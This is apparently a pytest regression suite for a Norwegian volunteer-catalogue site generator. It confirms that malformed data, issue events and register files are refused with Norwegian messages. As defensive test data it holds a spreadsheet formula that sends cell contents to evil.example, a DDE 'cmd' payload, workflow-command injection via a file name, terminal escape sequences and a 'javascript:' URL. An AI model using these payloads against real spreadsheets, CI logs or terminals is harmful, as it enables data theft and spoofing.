"""Input that once crashed or slipped through: each case gets a Norwegian message, or builds.

Every case here was found by trying the catalogue as a new user would and by
fuzzing data files, issue events and register files; each failed before its fix.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys

import pytest

from frivilligkatalogen.views.exports import spreadsheet_cell

from conftest import REPO, VALID_VENUE, katalog, mkdocs_build, write_site

ORG = """\
name: Laget
categories: [1200]
contact: {email: post@laget.no}
verified: 2026-09-01
"""

ONE_LINE = re.compile(r"^data/[^\n]+:\d+:\d+: \S[^\n]*$")


def check(root):
    result = katalog("check", str(root))
    assert "Traceback" not in result.stdout + result.stderr, result.stderr
    return result


# --- installs --------------------------------------------------------------------------------


def _pins(text: str) -> dict[str, str]:
    found = {}
    for line in text.splitlines():
        match = re.match(r"^([A-Za-z0-9][A-Za-z0-9._-]*)==([^\s;\\]+)", line)
        if match:
            found[re.sub(r"[-_.]+", "-", match[1]).lower()] = match[2]
    return found


def test_the_test_environment_holds_exactly_the_locked_versions():
    """scripts/setup.sh installs requirements/test.txt and nothing else (pip itself is the venv's own)."""
    lock = _pins((REPO / "requirements/test.txt").read_text(encoding="utf-8"))
    frozen = subprocess.run([sys.executable, "-m", "pip", "freeze", "--all", "--exclude-editable"], capture_output=True, text=True, check=True).stdout
    installed = {name: version for name, version in _pins(frozen).items() if name != "pip"}
    assert installed == lock


def test_every_locked_package_has_hashes_and_the_site_lock_agrees_with_the_test_lock():
    for name in ("site", "test", "forms"):
        text = (REPO / f"requirements/{name}.txt").read_text(encoding="utf-8")
        entries = re.split(r"\n(?=[A-Za-z0-9])", text.split("\n", 6)[-1])
        for entry in entries:
            if "==" in entry:
                assert "--hash=sha256:" in entry, entry.splitlines()[0]
    site = _pins((REPO / "requirements/site.txt").read_text(encoding="utf-8"))
    test = _pins((REPO / "requirements/test.txt").read_text(encoding="utf-8"))
    assert site and all(test.get(name) == version for name, version in site.items())
    forms = _pins((REPO / "requirements/forms.txt").read_text(encoding="utf-8"))
    assert {"starlette", "uvicorn", "itsdangerous", "altcha"} <= set(forms)
    assert all(test.get(name) == version for name, version in forms.items())


# --- YAML that libyaml answers in its own words ----------------------------------------------------


@pytest.mark.parametrize("char", ["\x00", "\x07", "\x1b", "\x7f", "\uffff"])
def test_a_raw_control_character_gets_one_norwegian_line_with_its_own_line(tmp_path, char):
    write_site(tmp_path, {})
    (tmp_path / "data/organizations/laget.yaml").write_text(ORG.replace("verified:", f"summary: Hei{char}du\nverified:"), encoding="utf-8")
    result = check(tmp_path)
    assert result.returncode == 1
    [line] = result.stdout.splitlines()
    assert line.startswith("data/organizations/laget.yaml:4:13: ") and "kontrolltegn" in line and f"U+{ord(char):04X}" in line
    assert "unacceptable" not in line and "position" not in line


@pytest.mark.parametrize("depth", [65, 999, 3000])
def test_deep_nesting_gets_the_nesting_message_whatever_libyaml_does(tmp_path, depth):
    write_site(tmp_path, {"data/organizations/laget.yaml": "name: " + "[" * depth + "]" * depth + "\n"})
    result = check(tmp_path)
    assert result.returncode == 1
    [line] = result.stdout.splitlines()
    assert line.startswith("data/organizations/laget.yaml:1:") and "nivåer" in line


# --- dates far from today --------------------------------------------------------------------------

FAR = [
    ("activities:\n  - {id: a, title: Trening, location: Hallen, schedule: [{days: [mon], start: '18:00', end: '19:00', from: 2026-01-05, until: 9999-12-31}]}\n", "activities[0].schedule[0].until"),
    ("activities:\n  - {id: a, title: Trening, location: Hallen, schedule: [{days: [fri], start: '18:00', end: '19:00', from: 9999-12-31}]}\n", "activities[0].schedule[0].from"),
    ("activities:\n  - {id: a, title: Trening, location: Hallen, dates: [{date: 9999-12-31}]}\n", "activities[0].dates[0].date"),
    ("activities:\n  - {id: a, title: Trening, location: Hallen, schedule: [{days: [fri], start: '18:00', end: '19:00', from: 9999-12-01, week_of_month: -1}]}\n", "activities[0].schedule[0].from"),
    ("activities:\n  - {id: a, title: Trening, location: Hallen, schedule: [{days: [mon], start: '00:30', end: '01:00', from: 0001-01-01}]}\n", "activities[0].schedule[0].from"),
    ("activities:\n  - {id: a, title: Trening, location: Hallen, dates: [{start: 9999-12-31T23:00, end: 2026-12-31T23:30}]}\n", "activities[0].dates[0].start"),
]


@pytest.mark.parametrize("extra, field", FAR)
def test_a_date_outside_the_calendar_years_is_refused_by_the_check(tmp_path, extra, field):
    write_site(tmp_path, {"data/organizations/laget.yaml": ORG + extra})
    result = check(tmp_path)
    assert result.returncode == 1
    [line] = result.stdout.splitlines()
    assert f": {field}: " in line and "1900–2200" in line


def test_a_grant_deadline_far_away_is_refused(tmp_path):
    grant = "name: Midler\nprovider: Kommunen\ndeadlines: [9999-12-31]\nurl: https://kommune.no/midler\nverified: 2026-09-01\n"
    write_site(tmp_path, {"data/grants/midler.yaml": grant})
    result = check(tmp_path)
    assert result.returncode == 1 and ": deadlines[0]: " in result.stdout and "1900–2200" in result.stdout


EDGE = ORG + """\
activities:
  - {id: lenge, title: Trening i to hundre år, location: Hallen, schedule: [{days: [mon, sun], start: "00:30", end: "23:59", from: 1900-01-01, until: 2200-12-31}]}
  - {id: siste, title: Siste fredag, location: Hallen, schedule: [{days: [fri], start: "23:00", end: "23:30", from: 2200-12-01, week_of_month: -1}]}
  - {id: dag, title: Hele dagen, location: Hallen, dates: [{date: 2200-12-31}, {date: 1900-01-01, end_date: 1900-01-02}]}
  - {id: natt, title: Nyttårsnatt, location: Hallen, dates: [{start: 2200-12-31T23:00, end: 2200-12-31T23:59}], signup: {required: true, deadline: 2200-12-31}}
"""
EDGE_GRANT = "name: Midler\nprovider: Kommunen\ndeadlines: [1900-01-01, 2200-12-31]\nurl: https://kommune.no/midler\nverified: 2026-09-01\n"


def test_the_first_and_last_accepted_dates_build_pages_feeds_and_exports(tmp_path):
    write_site(tmp_path, {"data/organizations/laget.yaml": EDGE, "data/grants/midler.yaml": EDGE_GRANT})
    assert check(tmp_path).returncode == 0
    out = tmp_path / "site"
    result = mkdocs_build(tmp_path, out)
    assert result.returncode == 0, result.stderr
    assert (out / "organisasjoner/laget/index.html").exists() and (out / "kalender/organisasjoner/laget.ics").exists()
    generated = katalog("generate", "--out", str(tmp_path / "generert"), "--root", str(tmp_path))
    assert generated.returncode == 0, generated.stderr


# --- nothing half-published ------------------------------------------------------------------------


def test_a_failed_build_leaves_nothing_to_publish(tmp_path):
    write_site(tmp_path, {"data/organizations/laget.yaml": ORG})
    (tmp_path / "content/index.md").write_text("# Forside\n\n[Til siden som mangler](mangler.md)\n", encoding="utf-8")
    out = tmp_path / "site"
    env = dict(os.environ, NO_MKDOCS_2_WARNING="1")
    result = subprocess.run([sys.executable, "-m", "mkdocs", "build", "--strict", "-f", str(tmp_path / "mkdocs.yml"), "-d", str(out)], capture_output=True, text=True, env=env)
    assert result.returncode == 1
    assert "Traceback" not in result.stderr
    assert not out.exists() or not any(out.iterdir()), sorted(p.name for p in out.iterdir())


def test_a_build_with_bad_data_ends_in_norwegian_without_a_traceback(tmp_path):
    write_site(tmp_path, {"data/organizations/laget.yaml": ORG.replace("2026-09-01", "9999-12-31")})
    result = mkdocs_build(tmp_path, tmp_path / "site")
    assert result.returncode == 1
    assert "Traceback" not in result.stderr and "1900–2200" in result.stderr and "ingenting er publisert" in result.stderr


def test_generate_replaces_only_its_own_folder_and_leaves_nothing_behind(tmp_path):
    write_site(tmp_path, {"data/organizations/laget.yaml": ORG})
    mine = tmp_path / "ut"
    assert katalog("generate", "--out", str(mine), "--root", str(tmp_path)).returncode == 0
    (mine / "gammel.html").write_text("fra forrige gang", encoding="utf-8")
    assert katalog("generate", "--out", str(mine), "--root", str(tmp_path)).returncode == 0
    assert not (mine / "gammel.html").exists() and (mine / "organisasjoner/laget/index.html").exists()
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".ut")) == []
    foreign = tmp_path / "content"
    result = katalog("generate", "--out", str(foreign), "--root", str(tmp_path))
    assert result.returncode == 2 and "katalog generate" in result.stderr and "Traceback" not in result.stderr
    assert (foreign / "index.md").exists()


# --- paths -----------------------------------------------------------------------------------------


def test_a_file_name_with_newlines_cannot_make_workflow_commands(tmp_path):
    write_site(tmp_path, {"data/organizations/laget.yaml": ORG})
    name = "a\n::add-mask::hemmelig\n::warning file=README.md,line=1::x.yaml"
    (tmp_path / "data/organizations" / name).write_text(ORG, encoding="utf-8")
    for env in ({}, {"GITHUB_ACTIONS": "true"}):
        result = katalog("check", str(tmp_path), env=env)
        assert result.returncode == 1
        [line] = result.stdout.splitlines()
        assert "\\u000a" in line and "kontrolltegn" in line
    build = mkdocs_build(tmp_path, tmp_path / "site")
    assert build.returncode == 1
    assert not any(line.startswith("::") for line in (build.stdout + build.stderr).splitlines())


def test_a_linked_folder_is_refused_and_never_read(tmp_path):
    write_site(tmp_path, {})
    elsewhere = tmp_path / "andre"
    elsewhere.mkdir()
    (elsewhere / "hemmelig.yaml").write_text("name: ghp_SECRET123\n", encoding="utf-8")
    (tmp_path / "data/grants").rmdir()
    os.symlink(elsewhere, tmp_path / "data/grants")
    result = check(tmp_path)
    assert result.returncode == 1
    assert "ghp_SECRET123" not in result.stdout + result.stderr and "hemmelig" not in result.stdout
    assert result.stdout.startswith("data/grants:1:1: ")


@pytest.mark.parametrize(
    "make, where, says",
    [
        (lambda root: (root / "data/organizations/sub").mkdir() or (root / "data/organizations/sub/x.yaml").write_text("[", encoding="utf-8"), "data/organizations/sub", "Mapper inni"),
        (lambda root: (root / "data/organizations/x.yaml").mkdir(), "data/organizations/x.yaml", "Mapper inni"),
        (lambda root: (root / "data/organizations").rmdir() or (root / "data/organizations").write_text("", encoding="utf-8"), "data/organizations", "vanlig mappe"),
        (lambda root: (root / "data/venues/.skjult.yaml").write_text(VALID_VENUE, encoding="utf-8"), "data/venues/.skjult.yaml", "skjult"),
    ],
)
def test_what_cannot_be_read_is_reported_not_skipped(tmp_path, make, where, says):
    write_site(tmp_path, {})
    make(tmp_path)
    result = check(tmp_path)
    assert result.returncode == 1
    [line] = result.stdout.splitlines()
    assert line.startswith(f"{where}:1:1: ") and says in line


# --- open data -------------------------------------------------------------------------------------


def test_csv_cells_never_start_a_formula(tmp_path):
    org = ORG.replace("name: Laget", 'name: \'=HYPERLINK("http://evil.example/?x="&A1,"Klikk")\'') + "summary: \"+cmd|' /C calc'!A0\"\nmembership: {fee: 200, per: year}\n"
    write_site(tmp_path, {"data/organizations/laget.yaml": org})
    out = tmp_path / "site"
    assert mkdocs_build(tmp_path, out).returncode == 0
    rows = list(csv.DictReader(io.StringIO((out / "data/organisasjoner.csv").read_text(encoding="utf-8-sig")), delimiter=";"))
    cells = [cell for row in rows for cell in row.values()]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Klikk\")" in cells and "'+cmd|' /C calc'!A0" in cells
    assert spreadsheet_cell("-5") == "-5" and spreadsheet_cell("+47 12 34 56 78") == "'+47 12 34 56 78"
    data = json.loads((out / "data/organisasjoner.json").read_text(encoding="utf-8"))
    assert data["records"][0]["name"].startswith("=HYPERLINK")


# --- privacy -----------------------------------------------------------------------------------------


@pytest.mark.parametrize("street", ["v/ Kari Nordmann, Bakkevegen 3", "Att: Kari Nordmann", "℅ Kari Nordmann, Bakkevegen 3", "co Kari Nordmann Bakkevegen 3"])
def test_a_street_through_a_person_is_published_nowhere(tmp_path, street):
    write_site(tmp_path, {"data/organizations/laget.yaml": ORG + f'address: {{street: "{street}", postal_code: "5700", city: Lindvik}}\n'})
    out = tmp_path / "site"
    assert mkdocs_build(tmp_path, out).returncode == 0
    for path in out.rglob("*"):
        if path.is_file() and path.suffix in (".html", ".ics", ".json", ".csv", ".xml"):
            text = path.read_text(encoding="utf-8", errors="replace")
            assert "Nordmann" not in text and "Bakkevegen" not in text, path
    assert "5700 Lindvik" in (out / "organisasjoner/laget/index.html").read_text(encoding="utf-8")


# --- issue events --------------------------------------------------------------------------------


def _event_result(tmp_path, content: bytes):
    root = write_site(tmp_path / "site", {"data/organizations/laget.yaml": ORG})
    event = tmp_path / "event.json"
    event.write_bytes(content)
    return katalog("from-issue", "--event", str(event), "--root", str(root), "--out", str(tmp_path / "out"))


def _issue(**fields) -> bytes:
    issue = {"number": 7, "body": "### Navn\n\nLaget", "labels": [{"name": "skjema:ny-organisasjon"}], **fields}
    return json.dumps({"issue": issue}).encode()


@pytest.mark.parametrize(
    "content",
    [
        b"", b"ikke json", "{\"issue\": \"æ\"}".encode("latin-1"), b"[" * 100_000 + b"]" * 100_000, b"null", b"[1]",
        b'{"issue": "x"}', _issue(number="../../x"), _issue(number=[1]), _issue(number=True),
        _issue().replace(b'"number": 7', b'"number": NaN'), _issue().replace(b'"number": 7', b'"number": ' + b"9" * 5000),
    ],
    ids=["empty", "not-json", "latin-1", "deep", "null", "list", "issue-string", "number-path", "number-list", "number-bool", "nan", "long-number"],
)
def test_a_malformed_event_gets_a_norwegian_message(tmp_path, content):
    result = _event_result(tmp_path, content)
    assert result.returncode == 2, result.stdout + result.stderr
    assert "Traceback" not in result.stderr and result.stderr.startswith("katalog: feil: ")
    assert "Hendelsesfilen" in result.stderr or "Saken" in result.stderr
    assert not list((tmp_path / "site/data/organizations").glob("sak-*"))


def test_a_lone_surrogate_in_the_body_becomes_a_comment(tmp_path):
    content = _issue().replace(b"Laget", b"La\\ud800get")
    result = _event_result(tmp_path, content)
    assert result.returncode == 0 and result.stdout.startswith("comment"), result.stderr
    assert "skadet" in (tmp_path / "out/kommentar.md").read_text(encoding="utf-8")


def test_a_change_form_finds_a_free_activity_id_however_many_are_taken(tmp_path):
    from test_issue_forms_become_pull_requests import submit

    taken = "activities:\n" + "".join(
        f"  - {{id: {name}, title: Trening {n}, location: Hallen, dates: [{{date: 2026-12-0{1 + n % 9}}}]}}\n"
        for n, name in enumerate(["aktivitet", *(f"aktivitet-{k}" for k in range(2, 101))])
    )
    files = {"data/organizations/laget.yaml": ORG + taken, "data/venues/hallen.yaml": VALID_VENUE}
    answers = {"id": "laget", "activity_title": "Aktivitet", "activity_place": "Hallen", "activity_days": "mandag", "activity_start": "18:00", "activity_end": "19:00", "activity_from": "2026-12-07", "confirm": "x"}
    root, out, stdout, output = submit(tmp_path, "endre-oppforing", answers, files=files)
    assert stdout.startswith("pull-request"), (out / "kommentar.md").read_text(encoding="utf-8")
    assert "id: \"aktivitet-101\"" in (root / "data/organizations/laget.yaml").read_text(encoding="utf-8")


def test_a_far_date_in_a_form_becomes_a_comment_not_a_pull_request(tmp_path):
    from test_issue_forms_become_pull_requests import NEW_ORG, submit

    root, out, stdout, output = submit(tmp_path, "ny-organisasjon", {**NEW_ORG, "activity_until": "9999-12-31"})
    assert stdout == "comment" and "1900–2200" in (out / "kommentar.md").read_text(encoding="utf-8")


# --- register files ------------------------------------------------------------------------------


GOOD = {"organisasjonsnummer": "984656327", "navn": "GODT LAG", "registrertIFrivillighetsregisteret": True, "organisasjonsform": {"kode": "FLI"}}
ODD_UNITS = [
    {"postadresse": "Storgata 12"}, {"postadresse": ["Storgata 12"]}, {"postadresse": {"adresse": "Storgata 12", "postnummer": "5700"}},
    {"postadresse": {"adresse": ["Storgata 12"], "postnummer": "5700"}}, {"postadresse": {"poststed": 5000, "postnummer": 5000}},
    {"postadresse": {"kommune": ["LINDVIK"]}}, {"organisasjonsform": "FLI"}, {"naeringskode1": "93.1"}, {"icnpoKategorier": 1100},
    {"navn": ["LISTE"]}, {"epostadresse": 5}, {"telefon": {"x": 1}}, {"slettedato": {"dato": 1}}, {"konkurs": "false"},
]


def _org_numbers():
    """Valid organisation numbers (MOD11 check digit), made rather than copied."""
    from frivilligkatalogen.model.values import org_number_is_valid

    for body in range(9_900_000, 9_901_000):
        for digit in range(10):
            number = f"9{body:07d}{digit}"
            if org_number_is_valid(number) and number != GOOD["organisasjonsnummer"]:
                yield number
                break


NUMBERS = list(zip(range(len(ODD_UNITS)), _org_numbers()))


def _register_site(tmp_path):
    return write_site(tmp_path / "site", {})


def _import(root, path, *extra):
    result = katalog("import", "brreg", str(path), "--root", str(root), *extra)
    assert "Traceback" not in result.stderr, result.stderr
    return result


def test_odd_register_units_import_or_are_named_while_the_others_import(tmp_path):
    from frivilligkatalogen.model.values import org_number_is_valid

    root = _register_site(tmp_path)
    units = [GOOD] + [{**GOOD, "organisasjonsnummer": number, "navn": f"LAG {i}", **odd} for (i, number), odd in zip(NUMBERS, ODD_UNITS)]
    assert all(org_number_is_valid(unit["organisasjonsnummer"]) for unit in units)
    path = tmp_path / "enheter.json"
    path.write_text(json.dumps({"_embedded": {"enheter": units}}), encoding="utf-8")
    result = _import(root, path)
    assert result.returncode == 0, result.stderr
    written = sorted((root / "data/organizations").glob("*.yaml"))
    text = {p.name: p.read_text(encoding="utf-8") for p in written}
    for unit in units:  # each unit has a draft, or is named with the reason it was skipped
        number = unit["organisasjonsnummer"]
        assert sum(number in t for t in text.values()) + result.stdout.count(number) == 1, number
    assert len(written) >= len(units) - 1
    storgata = [t for t in text.values() if "Storgata" in t]
    assert len(storgata) == 2 and all('street: "Storgata 12"' in t for t in storgata)
    assert not any("S, t, o" in t for t in text.values())


@pytest.mark.parametrize(
    "content",
    [b"", b"{", b"[" * 100_000 + b"]" * 100_000, b'{"_embedded": {"enheter": [{"organisasjonsnummer": ' + b"9" * 5000 + b"}]}}", b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03broken"],
    ids=["empty", "cut", "deep", "long-number", "corrupt-gzip"],
)
def test_an_unreadable_register_file_gets_a_norwegian_message(tmp_path, content):
    root = _register_site(tmp_path)
    path = tmp_path / "enheter.json"
    path.write_bytes(content)
    result = _import(root, path)
    assert result.returncode == 2 and result.stderr.startswith("katalog: feil: ")
    assert "enheter.json" in result.stderr


def test_a_category_file_with_odd_categories_does_not_stop_the_import(tmp_path):
    root = _register_site(tmp_path)
    units = tmp_path / "enheter.json"
    units.write_text(json.dumps([GOOD]), encoding="utf-8")
    categories = tmp_path / "kategorier.json"
    categories.write_text(json.dumps([{"organisasjonsnummer": "984656327", "icnpoKategorier": 1100}]), encoding="utf-8")
    result = _import(root, units, "--kategorier", str(categories))
    assert result.returncode == 0 and len(list((root / "data/organizations").glob("*.yaml"))) == 1


def test_direction_marks_never_reach_a_draft(tmp_path):
    root = _register_site(tmp_path)
    units = tmp_path / "enheter.json"
    units.write_text(json.dumps([{**GOOD, "navn": "GODT \u202eGAL LAG\u2066"}]), encoding="utf-8")
    assert _import(root, units).returncode == 0
    [draft] = (root / "data/organizations").glob("*.yaml")
    text = draft.read_text(encoding="utf-8")
    assert "\u202e" not in text and "\u2066" not in text and "Godt gal lag" in text


@pytest.mark.parametrize("command", [("new", "organization", "laget"), ("import", "brreg", "ENHETER")])
def test_no_command_writes_through_a_linked_folder(tmp_path, command):
    root = _register_site(tmp_path)
    elsewhere = tmp_path / "andre"
    elsewhere.mkdir()
    (root / "data/organizations").rmdir()
    os.symlink(elsewhere, root / "data/organizations")
    units = tmp_path / "enheter.json"
    units.write_text(json.dumps([GOOD]), encoding="utf-8")
    result = katalog(*[str(units) if part == "ENHETER" else part for part in command], "--root", str(root))
    assert result.returncode == 2 and "vanlig mappe" in result.stderr and "Traceback" not in result.stderr
    assert list(elsewhere.iterdir()) == []


# --- found by a review with fresh eyes -------------------------------------------------------------


def test_an_id_too_long_for_a_file_name_is_refused_by_the_check(tmp_path):
    activity = "activities:\n  - {id: " + "a" * 101 + ", title: Trening, location: Hallen, dates: [{date: 2026-12-01}]}\n"
    write_site(tmp_path, {"data/organizations/laget.yaml": ORG + activity, "data/organizations/" + "b" * 101 + ".yaml": ORG})
    result = check(tmp_path)
    assert result.returncode == 1
    lines = result.stdout.splitlines()
    assert len(lines) == 2 and "activities[0].id: Id-en er 101 tegn lang" in result.stdout and "høyst 100 tegn" in result.stdout


def test_generate_never_replaces_the_folder_it_runs_in_and_writes_a_readable_folder(tmp_path):
    write_site(tmp_path, {"data/organizations/laget.yaml": ORG})
    out = tmp_path / "ut"
    assert katalog("generate", "--out", str(out), "--root", str(tmp_path)).returncode == 0
    assert out.stat().st_mode & 0o777 == 0o777 & ~_umask()
    result = katalog("generate", "--out", ".", "--root", str(tmp_path), cwd=out)
    assert result.returncode == 2 and "Traceback" not in result.stderr
    assert (out / "organisasjoner/laget/index.html").exists()
    assert katalog("generate", "--out", str(tmp_path), "--root", str(tmp_path)).returncode == 2
    assert (tmp_path / "mkdocs.yml").exists()


def _umask() -> int:
    mask = os.umask(0)
    os.umask(mask)
    return mask


@pytest.mark.parametrize("char", ["\x85", "\u2028", "\u2029"])
def test_a_line_break_no_editor_shows_is_refused(tmp_path, char):
    write_site(tmp_path, {})
    (tmp_path / "data/organizations/laget.yaml").write_text(ORG.replace("name: Laget\n", f"name: Laget{char}categories: [9999]\n"), encoding="utf-8")
    result = check(tmp_path)
    assert result.returncode == 1
    [line] = result.stdout.splitlines()
    assert line.startswith("data/organizations/laget.yaml:1:12: ") and f"U+{ord(char):04X}" in line


def test_the_register_comparison_prints_no_control_characters(tmp_path):
    write_site(tmp_path, {"data/organizations/laget.yaml": ORG.replace("name: Laget", "name: Laget\norg_number: \"984656327\"")})
    register = tmp_path / "enheter.json"
    register.write_text(json.dumps([{**GOOD, "navn": "ANNET\u001b]0;pwned\u0007\u001b[2J\u202eLAG"}, 5, None]), encoding="utf-8")
    result = katalog("check", str(tmp_path), "--registers", str(register))
    assert result.returncode == 1 and "Traceback" not in result.stderr
    assert not any(char in result.stdout for char in "\u001b\u0007\u202e")


def test_register_entries_that_are_not_units_are_named(tmp_path):
    root = _register_site(tmp_path)
    units = tmp_path / "enheter.json"
    units.write_text(json.dumps([GOOD, 5, "984656327", None, ["x"]]), encoding="utf-8")
    result = _import(root, units)
    assert result.returncode == 0
    assert result.stdout.count("oppføringen har ikke formen Enhetsregisteret bruker") == 4


@pytest.mark.parametrize("content", [b"{", b"\xff\xfe", b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03"], ids=["cut", "not-utf8", "short-gzip"])
def test_register_file_messages_are_norwegian(tmp_path, content):
    root = _register_site(tmp_path)
    path = tmp_path / "enheter.json"
    path.write_bytes(content)
    result = _import(root, path)
    assert result.returncode == 2
    for english in ("Expecting", "codec", "decode", "Compressed", "end-of-stream", "char "):
        assert english not in result.stderr


@pytest.mark.parametrize("street", ["Bakkevegen 3 (c/o Kari Nordmann)", "Storgata 1,c/o Kari Nordmann"])
def test_a_person_after_a_bracket_or_comma_is_not_published(tmp_path, street):
    test_a_street_through_a_person_is_published_nowhere(tmp_path, street)


def test_a_dangling_link_in_the_data_is_never_written_through(tmp_path):
    from test_issue_forms_become_pull_requests import NEW_ORG, submit

    outside = tmp_path / "utenfor.yaml"
    files = {"data/venues/hallen.yaml": VALID_VENUE}
    root = write_site(tmp_path / "site", files)
    os.symlink(outside, root / "data/organizations/lindvik-sjakklubb-springer.yaml")
    submit(tmp_path, "ny-organisasjon", NEW_ORG)
    assert not outside.exists()


def test_a_hidden_yaml_file_directly_in_the_data_folder_is_reported(tmp_path):
    write_site(tmp_path, {"data/.holidays.yaml": "holidays: []\n"})
    result = check(tmp_path)
    assert result.returncode == 1 and result.stdout.startswith("data/.holidays.yaml:1:1: ") and "skjult" in result.stdout


def test_a_broken_mkdocs_yml_is_named_not_ignored(tmp_path):
    write_site(tmp_path, {"data/organizations/laget.yaml": ORG})
    (tmp_path / "mkdocs.yml").write_text("site_name: [\n", encoding="utf-8")
    result = katalog("check", str(tmp_path))
    assert result.returncode == 2 and "mkdocs.yml kan ikke leses" in result.stderr and "Traceback" not in result.stderr


def test_a_wrong_option_gets_the_same_norwegian_message_from_check_and_build(tmp_path):
    from conftest import SITE_CONFIG

    write_site(tmp_path, {"data/organizations/laget.yaml": ORG}, config=SITE_CONFIG.replace("municipality: Testkommune", "municipality: Testkommune\n      stale_after_day: 30\n      search: ja"))
    checked = katalog("check", str(tmp_path))
    built = mkdocs_build(tmp_path, tmp_path / "site")
    assert checked.returncode == 2 and built.returncode == 1
    for output in (checked.stderr, built.stderr):
        assert "«stale_after_day» er ikke et valg katalogen kjenner. Mente du «stale_after_days»?" in output
        assert "«search» skal være true eller false." in output
        assert "Traceback" not in output


@pytest.mark.parametrize(
    "option, says",
    [
        ("accessibility_statement: 'javascript:alert(1)'", "er ikke en nettadresse"),
        ("campaigns: [{name: Dugnadsdagen, date: '02-30'}]", "Kampanjen Dugnadsdagen (02-30)"),
        ("licence: {name: Egen, url: lisens}", "er ikke en nettadresse"),
    ],
)
def test_an_option_that_would_become_a_wrong_link_or_day_is_refused_by_check_and_build(tmp_path, option, says):
    from conftest import SITE_CONFIG

    config = SITE_CONFIG.replace("municipality: Testkommune", "municipality: Testkommune\n      " + option)
    write_site(tmp_path, {"data/organizations/laget.yaml": ORG}, config=config)
    checked = katalog("check", str(tmp_path))
    built = mkdocs_build(tmp_path, tmp_path / "site")
    assert checked.returncode == 2 and built.returncode == 1
    assert says in checked.stderr and says in built.stderr and "Traceback" not in checked.stderr + built.stderr


def test_the_site_install_needs_none_of_the_form_services_packages(tmp_path):
    """CI checks and publishes with requirements/site.txt only: katalog check and the monthly
    report must run without Starlette, itsdangerous, httpx, ALTCHA or uvicorn installed."""
    blocked = ["starlette", "itsdangerous", "httpx", "altcha", "uvicorn", "multipart", "python_multipart"]
    script = (
        "import sys\n"
        f"for name in {blocked!r}: sys.modules[name] = None\n"
        "from frivilligkatalogen.adapters.cli import main\n"
        "sys.exit(main(sys.argv[1:]))\n"
    )
    for args in (["check", str(REPO)], ["stale", str(REPO), "--markdown"], ["--help"]):
        result = subprocess.run([sys.executable, "-c", script, *args], capture_output=True, text=True)
        assert result.returncode == 0, (args, result.stderr[-2000:])
